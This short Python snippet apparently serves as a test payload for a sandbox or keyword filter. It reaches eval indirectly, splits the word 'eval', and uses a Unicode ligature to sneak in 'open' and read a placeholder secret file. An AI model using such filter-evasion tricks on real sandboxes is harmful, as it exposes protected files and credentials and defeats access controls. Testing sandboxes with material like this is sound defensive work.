"""Ligatures fall apart into the letters of a name."""
import builtins
print(builtins.__dict__["eval"]("1") and ().__class__.__base__ and getattr(builtins, "e" "val")("ﬁle('@SECRET_FILE@')".replace("ﬁle", "open")).read())
